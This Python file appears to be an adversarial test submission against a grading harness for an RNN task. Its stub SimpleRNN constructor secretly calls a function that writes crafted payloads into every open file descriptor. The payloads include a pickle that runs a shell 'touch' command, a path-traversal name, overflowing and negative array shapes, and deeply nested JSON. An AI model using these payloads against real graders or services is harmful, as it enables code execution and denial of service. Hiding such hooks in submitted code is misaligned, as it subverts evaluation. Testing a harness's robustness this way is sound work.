# promise: solves-nothing RTE|TLE|WA: sends array headers with object dtypes, pickles, overflowing and negative shapes
import os
import struct

import numpy as np


HEADERS = [
    b'{"name": "outputs", "dtype": "|O", "shape": [1]}',
    b'{"name": "outputs", "dtype": "<f8", "shape": [4294967296, 4294967296]}',
    b'{"name": "outputs", "dtype": "<f8", "shape": [-1, -8]}',
    b'{"name": "../../../tmp/rnn_judge_canary_frame", "dtype": "<f8", "shape": []}',
    b'{"name": "outputs", "dtype": "<f8", "shape": [1e308, NaN, Infinity]}',
    b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    b"cos\nsystem\n(S'touch /tmp/rnn_judge_canary_pickle'\ntR.",
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"\xff\xfe\x00\xd8",
]


def forge():
    for fd in range(3, 256):
        for header in HEADERS:
            try:
                os.write(fd, struct.pack(">I", len(header)) + header)
                os.write(fd, struct.pack("<I", len(header)) + header)
            except OSError:
                break


class SimpleRNN:
    def __init__(self, input_size, hidden_size, output_size):
        forge()
        self.W_xh = np.ones((hidden_size, input_size))
        self.W_hh = np.ones((hidden_size, hidden_size))
        self.W_hy = np.ones((output_size, hidden_size))
        self.b_h = np.ones((hidden_size, 1))
        self.b_y = np.ones((output_size, 1))

    def forward(self, x):
        return np.ones((len(x), len(self.b_y), 1))

    def backward(self, x, y, learning_rate):
        return None
